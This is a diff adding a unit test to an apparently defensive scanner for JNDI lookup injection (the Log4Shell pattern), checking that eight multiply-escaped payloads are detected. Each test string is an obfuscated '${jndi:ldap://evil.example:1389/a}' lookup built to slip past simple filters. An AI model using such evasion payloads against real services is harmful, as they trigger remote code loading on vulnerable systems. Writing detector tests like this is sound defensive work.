@@ -439,6 +439,23 @@ START_TEST(work_is_bounded_and_linear_in_the_field)
 END_TEST
 
 // Among bytes that are no signs, and among signs that mean nothing, as in bytes that are no text.
+// Escaped inside an escape: no layer but the first two together give a '$'.
+START_TEST(escapes_made_of_escapes_pass_the_quick_look)
+{
+	static const char *const fields[] = {
+		"%%32%34%%37%62jndi:ldap://evil.example:1389/a}",       "%2%34%7%62jndi:ldap://evil.example:1389/a}",
+		"&%64ollar;&%6cbrace;jndi:ldap://evil.example:1389/a}", "&d%6fllar;&l%62race;jndi:ldap://evil.example:1389/a}",
+		"\\%750024\\%75007bjndi:ldap://evil.example:1389/a}",   "\\%78%32%34\\%78%37%62jndi:ldap://evil.example:1389/a}",
+		"%&#50;4%&#55;bjndi:ldap://evil.example:1389/a}",       "&\\x6cbrace;&\\x64ollar;${jndi:ldap://evil.example:1389/a}",
+	};
+
+	for (size_t i = 0; i < COUNT_OF(fields); i++) {
+		ck_assert_msg(scan(fields[i]) == 1, "%s", fields[i]);
+		expect_text(&caught.last[0], TEXT_JNDI_HOST, "evil.example", fields[i]);
+	}
+}
+END_TEST
+
 START_TEST(the_quick_look_sees_a_sign_at_any_place_in_any_length)
 {
 	static const char *const openings[] = {"${", "%24{", "\\u0024{", "&#36;{", "\xc0\xa4{", "$&lcub;",
@@ -583,6 +600,7 @@ int main(void)
 	tcase_add_test(tcase, a_look_up_that_takes_more_rounds_than_are_made_is_reported_as_it_stands);
 	tcase_add_test(tcase, a_field_that_costs_too_much_to_resolve_is_reported_as_it_stands);
 	tcase_add_loop_test(tcase, work_is_bounded_and_linear_in_the_field, 0, 29);
+	tcase_add_test(tcase, escapes_made_of_escapes_pass_the_quick_look);
 	tcase_add_loop_test(tcase, the_quick_look_sees_a_sign_at_any_place_in_any_length, 0, 6);
 	tcase_add_loop_test(tcase, a_look_up_that_arrives_in_pieces_is_reported_once_and_whole, 0, COUNT_OF(hidden));
 	tcase_add_test(tcase, eight_kib_are_read_and_no_more);
